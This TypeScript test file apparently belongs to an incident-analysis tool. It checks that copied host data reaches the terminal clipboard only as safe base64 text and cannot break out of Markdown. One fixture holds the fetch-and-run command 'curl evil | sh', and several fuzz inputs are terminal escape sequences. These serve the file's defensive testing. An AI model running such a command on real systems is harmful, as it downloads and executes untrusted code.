import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { decodeHostBytes, type HostString } from "#model/host-string";
import { FixtureState } from "#testing/fixture-state";
import { nightState } from "#testing/night-state";
import { Copier, copyables, factsAsMarkdown } from "./copy.ts";

const INTRUDER = "boot-1:4711:4711";
const clipboard = (sequence = "") => {
  const [, base64 = ""] = /^]52;c;([A-Za-z0-9+/=]*)$/.exec(sequence.slice(1, -1)) ?? [];
  return Buffer.from(base64, "base64").toString("utf8");
};
/** Any bytes that a host may name something. */
const hostile = fc.oneof(
  fc.uint8Array({ maxLength: 200 }).map((bytes) => decodeHostBytes(bytes)),
  fc
    .string({ unit: fc.constantFrom("\x1b]52;c;", "\x07", "\x1b[2J", "\u202e", "`", "'", "\n", "a", "\u009b", "日"), maxLength: 30 })
    .map((text) => text as HostString),
);

describe("what is copied", () => {
  test("of each kind of thing: what an analyst would paste, the likeliest first, and again the next of it", () => {
    const state = nightState();
    const login = copyables(state, { kind: "login", id: INTRUDER });
    expect(login.map(({ what, text }) => `${what}: ${text}`)).toEqual([
      "login: root@185.220.101.47",
      "address: 185.220.101.47",
      "user: root",
    ]);
    const [connection] = [...state.connections.values()].filter(({ destination }) => destination.ip === "203.0.113.66");
    expect(copyables(state, { kind: "connection", id: connection?.id ?? "" })[0]?.text).toBe("203.0.113.66:443");
    const binary = [...state.binaries.values()].find(({ sha256 }) => sha256 !== undefined);
    expect(copyables(state, { kind: "binary", id: binary?.path ?? "" }).map(({ what }) => what)).toEqual(["path", "sha256"]);

    const copier = new Copier();
    const press = () => copier.copy(state, { kind: "login", id: INTRUDER });
    expect(press().notice).toBe("login sent to your terminal's clipboard: root@185.220.101.47; again: its address");
    expect(clipboard(press().send)).toBe("185.220.101.47");
    expect(copier.copy(state, { kind: "login", id: "gone" })).toEqual({ notice: "nothing of it is known that could be copied" });
  });

  test("a command line is quoted as a shell would read it back", () => {
    const fixture = new FixtureState();
    const id = fixture.process(7, undefined, "sh", { args: ["sh", "-c", "curl evil | sh; echo 'x'", ""] as HostString[] });
    expect(copyables(fixture.state, { kind: "process", id })[0]).toEqual({
      what: "command line",
      text: "sh -c 'curl evil | sh; echo '\\''x'\\''' ''",
    });
  });

  test("whatever the host says, only base64 of printable text reaches the terminal, and not too much of it", () => {
    fc.assert(
      fc.property(hostile, hostile, fc.integer({ min: 1, max: 5000 }), (name, arg, times) => {
        const fixture = new FixtureState();
        const id = fixture.process(7, undefined, "x", { name, args: [name, arg.repeat(times) as HostString], executable: name });
        const copier = new Copier();
        const selection = { kind: "process" as const, id };
        const facts = [{ label: "command", text: arg.repeat(times) }];
        for (const { send, notice } of [
          copier.copy(fixture.state, selection),
          copier.copy(fixture.state, selection),
          copier.copy(fixture.state, selection, facts),
        ]) {
          expect([send?.[0], send?.at(-1)]).toEqual(["\x1b", "\x07"]);
          expect(send?.slice(1, -1)).toMatch(/^]52;c;[A-Za-z0-9+/=]+$/);
          expect(send?.length).toBeLessThan(100_000);
          expect(clipboard(send).replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}]/u);
          expect(notice.length).toBeLessThan(20_000);
        }
      }),
    );
  });

  test("host text cannot break out of the Markdown", () => {
    fc.assert(
      fc.property(hostile, hostile, (title, text) => {
        const page = factsAsMarkdown(title, [
          { label: "path", text },
          { label: "last", text: "x" },
        ]);
        const lines = page.split("\n");
        expect(lines).toHaveLength(5);
        for (const line of [lines[0]?.slice(4), lines[2]?.slice("- path: ".length)]) {
          const [fence = ""] = /^`+/.exec(line ?? "") ?? [];
          expect(line?.endsWith(fence) && fence.length > 0).toBe(true);
          const inside = line?.slice(fence.length, -fence.length) ?? "";
          expect([...inside.matchAll(/`+/g)].some(([run]) => run.length === fence.length)).toBe(false);
        }
      }),
    );
  });
});
